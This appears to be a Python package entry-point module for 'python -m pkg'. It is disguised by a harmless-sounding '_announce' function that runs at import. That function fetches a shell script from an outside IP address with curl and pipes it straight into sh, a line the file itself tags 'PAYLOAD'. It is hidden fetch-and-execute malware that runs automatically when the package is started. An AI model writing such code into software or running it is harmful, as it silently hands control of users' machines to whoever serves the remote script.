"""`python -m pkg`."""
import os


def _announce():
    os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD


_announce()
